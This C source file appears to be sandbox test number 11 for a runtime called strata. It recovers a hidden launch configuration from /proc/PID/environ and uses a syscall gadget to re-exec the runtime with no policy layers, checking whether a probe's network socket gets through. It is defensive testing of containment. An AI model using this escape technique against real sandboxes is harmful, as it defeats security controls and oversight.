/* Attack 11: re-exec strata-rt itself, which the Landlock backstop must let
 * through (it is how strata follows execve), with a launch configuration of
 * the attacker's making: no layers, so no in-process policy. The
 * configuration travels in STRATA_RT (VERSION|FLAGS|MASK|SESSION|SPEC|PROGRAM);
 * strata removes it from the environment the program sees, but the version
 * can be read back from /proc/PID/environ (the kernel's copy). The exec goes
 * through the strata gadget, so strata's own execve handling is skipped.
 * The static probe then runs under a strata with no policy layer at all:
 * only the inherited seccomp filter and Landlock domain can stop its
 * socket(AF_INET). Natively there is no strata-rt in the process: the test
 * passes its path as argv[1] and the configuration's version as argv[2], and
 * the probe's socket succeeds.
 * Usage: reexec_rt [STRATA_RT_BINARY VERSION] */
#include "attack.h"

static struct gadget g;

/* The configuration's version, from the kernel's copy of our environment
 * (`fallback` when strata is not there). */
static void config_version(char *out, size_t size, const char *fallback) {
    snprintf(out, size, "%s", fallback);
    char path[64], buf[1 << 16];
    snprintf(path, sizeof path, "/proc/%d/environ", getpid());
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    for (ssize_t i = 0; i < n; i += strlen(buf + i) + 1) {
        buf[n] = 0;
        if (strncmp(buf + i, "STRATA_RT=", 10) == 0) {
            size_t v = strcspn(buf + i + 10, "|");
            snprintf(out, size, "%.*s", (int)v, buf + i + 10);
            printf("leaked from %s: STRATA_RT=%.60s...\n", path, buf + i + 10);
            return;
        }
    }
}

int main(int argc, char **argv) {
    g = find_gadget();
    const char *rt = strata_rt_path();
    if (!rt && argc > 1)
        rt = argv[1];
    if (!rt)
        setup_failed("no strata-rt mapped and none given");
    char probe[4096], version[32], config[8192];
    probe_path(argv[0], probe, sizeof probe);
    config_version(version, sizeof version, argc > 2 ? argv[2] : "0");
    snprintf(config, sizeof config, "STRATA_RT=%s|0||||%s", version, probe);
    char *nargv[] = {probe, "strata-rt re-exec'd with no layers", NULL};
    char *nenv[] = {config, "PATH=/usr/bin:/bin", NULL};
    pid_t pid = fork();
    if (pid < 0)
        setup_failed("fork");
    if (pid == 0) {
        long r = gadget_call(g.addr, SYS_execve, (long)rt, (long)nargv, (long)nenv, 0, 0, 0);
        char what[8400];
        snprintf(what, sizeof what, "gadget execve(%s, %s)", rt, config);
        outcome(what, r, 0);
        _exit(3);
    }
    int status;
    waitpid(pid, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 3)
        return verdict(0);
    if (WIFEXITED(status) && WEXITSTATUS(status) <= 1) {
        printf("strata-rt ran the probe with no layers; the probe %s\n", WEXITSTATUS(status) ? "escaped" : "was blocked");
        return verdict(WEXITSTATUS(status));
    }
    printf("the re-exec'd strata-rt ended with status %#x -> blocked\n", status);
    return verdict(0);
}
